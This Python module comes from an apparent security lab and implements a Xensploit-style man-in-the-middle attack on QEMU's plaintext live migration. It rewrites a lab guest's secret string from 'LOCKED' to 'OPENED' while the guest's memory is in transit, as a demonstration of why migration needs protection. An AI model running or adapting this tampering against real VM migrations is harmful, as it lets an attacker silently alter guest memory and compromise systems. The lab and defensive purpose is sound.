"""The attack that secure migration is for: change a guest's memory while it is on the wire.

After Oberheide, Cooke and Jahanian (2008), whose Xensploit changed the memory of a migrating VM so that its
sshd let anybody in. Here the man in the middle replaces a text that the lab's guest keeps and shows; against
QEMU's plain TCP migration nobody notices, the guest runs on with other contents.
Limit: plain text streams only, and a text that lies within one page (pages travel whole).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from korora.lab.forwarder import Forwarder, Inside
from korora.lab.tampering import Direction, Editor, Replacement, Unchanged

GUEST_SECRET = b"korora-secret: the door is LOCKED"
FORGED_SECRET = b"korora-secret: the door is OPENED"


@dataclass(slots=True)
class Xensploit:
    """The attack in progress: `forwarder` is where the migration must be sent, `replaced` counts its hits."""

    forwarder: Forwarder
    _editors: list[Replacement] = field(default_factory=list)

    @property
    def replaced(self) -> int:
        return sum(editor.count for editor in self._editors)

    def close(self) -> None:
        self.forwarder.close()


def xensploit(
    listen: tuple[str, int],
    target: tuple[str, int],
    *,
    wanted: bytes = GUEST_SECRET,
    instead: bytes = FORGED_SECRET,
    inside: Inside = lambda make: make(),
) -> Xensploit:
    """Start the man in the middle. `close` it afterwards."""
    editors: list[Replacement] = []

    def make(direction: Direction) -> Editor:
        if direction is Direction.RETURN:
            return Unchanged()
        editors.append(Replacement(wanted, instead))
        return editors[-1]

    return Xensploit(Forwarder(listen, target, inside=inside, editors=make), editors)
